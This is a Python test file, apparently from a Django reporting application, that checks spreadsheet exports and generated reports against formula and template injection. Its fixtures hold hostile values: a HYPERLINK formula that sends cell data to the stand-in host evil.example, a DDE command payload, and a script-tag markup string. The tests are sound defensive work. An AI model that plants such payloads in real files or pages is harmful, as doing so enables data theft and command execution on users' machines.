"""Exports and reports carry the users' text as data (ASVS 1.2.10 formula injection, 1.3.7 template
injection): one test per spreadsheet writer with hostile text, and the summary report with markup."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from taizhang.lib.text import nest_quotes
from taizhang.lib.xlsx import FORMULA_PREFIXES

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3"]


def assert_values_only(data: bytes, *expected: str) -> None:
    """No cell of any sheet is a formula, and the hostile strings come back exactly as typed."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name), name
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = set()
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                values.add(cell.value)
    for text in expected:
        assert text in values, text


def test_ASVS_1_2_10_the_formula_prefixes_cover_excel_and_csv_triggers():
    assert set("=+-@") <= {p[0] for p in FORMULA_PREFIXES}


def test_ASVS_1_2_10_ledgers_write_hostile_text_as_text(ledger):
    from taizhang.rectification.models import Problem
    from taizhang.reports.ledgers import ledger_write

    Problem.objects.filter(pk=Problem.objects.first().pk).update(
        description=HOSTILE[0], responsible_person=HOSTILE[1]
    )
    out = io.BytesIO()
    ledger_write("problems", campaign=ledger.world.campaign, org=None, out=out)
    assert_values_only(out.getvalue(), HOSTILE[0], HOSTILE[1])


def test_ASVS_1_2_10_list_exports_write_hostile_text_as_text(world):
    from taizhang.imports.exporters import export_workbook
    from taizhang.org.models import Member

    Member.objects.filter(pk=world.people_a[1].pk).update(post=HOSTILE[0], department=HOSTILE[2])
    assert_values_only(export_workbook(user=world.admin, sheets=["党员"]), HOSTILE[0], HOSTILE[2])


def test_ASVS_1_2_10_failed_rows_workbook_writes_hostile_text_as_text():
    from taizhang.imports.errors import Errors
    from taizhang.imports.failed import failed_rows_workbook

    errors = Errors()
    errors.add(
        "姓名不能为空", sheet="党员", row=3, column="姓名", value=HOSTILE[0], cells=(HOSTILE[0], HOSTILE[3])
    )
    assert_values_only(failed_rows_workbook(errors), HOSTILE[0])


def test_ASVS_1_2_10_import_template_writes_hostile_activity_types_as_text():
    from taizhang.imports.template import template_workbook

    assert_values_only(template_workbook(activity_types=[HOSTILE[0], "支部集中学习"]), HOSTILE[0])


def test_ASVS_1_2_10_fill_checklist_writes_hostile_text_as_text(world):
    from taizhang.reports.fill.services import fill_draft_checklist
    from taizhang.reports.models import FillDraft

    # The context and the reason come from the user's own document.
    rows = [
        {
            "index": 0,
            "placeholder": "X",
            "context": HOSTILE[0],
            "key": "problems.total",
            "auto_key": "problems.total",
            "confidence_label": "高",
            "reason": HOSTILE[2],
        },
        {
            "index": 1,
            "placeholder": "XX",
            "context": HOSTILE[1],
            "key": "",
            "auto_key": "",
            "confidence_label": "",
            "reason": HOSTILE[3],
        },
    ]
    draft = FillDraft.objects.create(
        org=world.branch_a, campaign=world.campaign, source_name="稿.docx", file="fill/d.docx", rows=rows
    )
    export = fill_draft_checklist(draft=draft, actor=world.admin)
    assert_values_only(export.content, HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3])


def test_ASVS_1_2_10_audit_export_writes_hostile_text_as_text(world):
    from taizhang.core.auditlog import export_workbook
    from taizhang.core.models import AuditLog

    AuditLog.objects.create(action="update", username=HOSTILE[1], object_repr=HOSTILE[0])
    data, _ = export_workbook(AuditLog.objects.all(), filters={})
    assert_values_only(data, HOSTILE[0], HOSTILE[1])


MARKUP = '<script>alert(1)</script> & "甲" </w:t></w:r>'


def test_ASVS_1_3_7_report_text_with_markup_is_kept_in_the_docx_and_escaped_on_pages(world):
    import docx

    from taizhang.reports.services import report_generate

    world.campaign.name = MARKUP
    world.campaign.save(update_fields=["name"])
    report = report_generate(
        campaign=world.campaign,
        actor=world.admin,
        text="# {{ campaign.name }}总结\n本次学习教育：{{ campaign.name }}。",
    )
    with report.file.open("rb") as stream:
        text = "\n".join(p.text for p in docx.Document(stream).paragraphs)
    # Exactly, nothing lost or escaped twice; only straight quotes are set as Chinese ones (“甲”), as all
    # report text is (lib.text.nest_quotes).
    kept = nest_quotes(MARKUP)
    assert kept == "<script>alert(1)</script> & “甲” </w:t></w:r>"
    title = text.split("\n\n")[0].replace("\n", "")  # a long title is set in lines (w:br)
    assert title == f"{kept}总结" and f"本次学习教育：{kept}。" in text
    client = Client()
    client.force_login(world.admin)
    for url in (reverse("reports:report_detail", args=[report.pk]), reverse("reports:report_list")):
        page = client.get(url).content.decode()
        assert "<script>alert(1)" not in page, url
    assert (
        "&lt;script&gt;alert(1)&lt;/script&gt;"
        in client.get(reverse("reports:report_detail", args=[report.pk])).content.decode()
    )
